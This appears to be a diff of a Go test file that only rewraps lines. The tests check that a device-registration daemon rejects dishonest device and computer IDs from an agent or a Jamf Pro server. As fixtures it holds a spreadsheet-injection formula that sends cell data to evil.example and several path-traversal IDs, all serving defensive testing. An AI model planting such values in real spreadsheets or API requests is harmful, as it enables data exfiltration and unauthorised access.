@@ -10,7 +10,8 @@ import (
 	"usher.internal/sim/jamfpro"
 )
 
-// What a lying agent says in the place of a device's ID: it would be a formula in a spreadsheet, or a way to another path.
+// What a lying agent says in the place of a device's ID: it would be a formula in a spreadsheet, or a way to another
+// path.
 const (
 	plantedFormula = `=HYPERLINK("http://evil.example/?"&A1)`
 	plantedPath    = "../../v1/planted-users"
@@ -21,7 +22,8 @@ func TestLyingAgentsDeviceID(t *testing.T) {
 	for part, planted := range map[string]string{"device-formula": "HYPERLINK", "device-path": "planted-users"} {
 		t.Run(part, func(t *testing.T) {
 			s := newStory(t, map[string]any{
-				"registration.session_timeout": "4s", "registration.sign_in_timeout": "4s", "registration.identity_timeout": "2s",
+				"registration.session_timeout": "4s", "registration.sign_in_timeout": "4s",
+				"registration.identity_timeout": "2s",
 			})
 			s.withJamfPro()
 			s.Programs.Agent = s.actAs(part)
@@ -30,7 +32,8 @@ func TestLyingAgentsDeviceID(t *testing.T) {
 			jane := s.loggedIn("v-jane")
 			result := s.control(8, "register", "--user", jane.Name, "--wait")
 			shown := result.Stdout + result.Stderr + s.Helper.Log()
-			for _, arguments := range [][]string{{"status", "--json"}, {"status"}, {"registrations", "list", "--json"}, {"outbox", "list", "--json"}} {
+			for _, arguments := range [][]string{{"status", "--json"}, {"status"}, {"registrations", "list", "--json"},
+				{"outbox", "list", "--json"}} {
 				result, err := s.Control(s.ctx, arguments...)
 				s.must(err)
 				shown += result.Stdout + result.Stderr
@@ -49,7 +52,8 @@ func TestLyingAgentsDeviceID(t *testing.T) {
 
 // A Jamf Pro that lies about a computer's ID costs an attempt, and chooses no path.
 func TestLyingJamfProsComputerID(t *testing.T) {
-	for name, id := range map[string]string{"path": "../../v1/users", "none": "", "negative": "-1", "huge": "1" + strings.Repeat("0", 30)} {
+	for name, id := range map[string]string{"path": "../../v1/users", "none": "", "negative": "-1",
+		"huge": "1" + strings.Repeat("0", 30)} {
 		t.Run(name, func(t *testing.T) {
 			s := newStory(t, nil)
 			s.withJamfPro()
@@ -65,7 +69,9 @@ func TestLyingJamfProsComputerID(t *testing.T) {
 			s.control(0, "outbox", "flush")
 			s.control(0, "registrations", "watch", watched)
 			for _, one := range s.jamfPro.Requests() {
-				if strings.HasPrefix(one.Path, "/api/") && (strings.Contains(one.Path, "users") || strings.HasSuffix(one.Path, "-1") || strings.HasSuffix(one.Path, "detail/") || len(one.Path) > 100) {
+				if strings.HasPrefix(one.Path, "/api/") &&
+					(strings.Contains(one.Path, "users") || strings.HasSuffix(one.Path, "-1") ||
+						strings.HasSuffix(one.Path, "detail/") || len(one.Path) > 100) {
 					t.Errorf("usherd called %s %s", one.Method, one.Path)
 				}
 			}
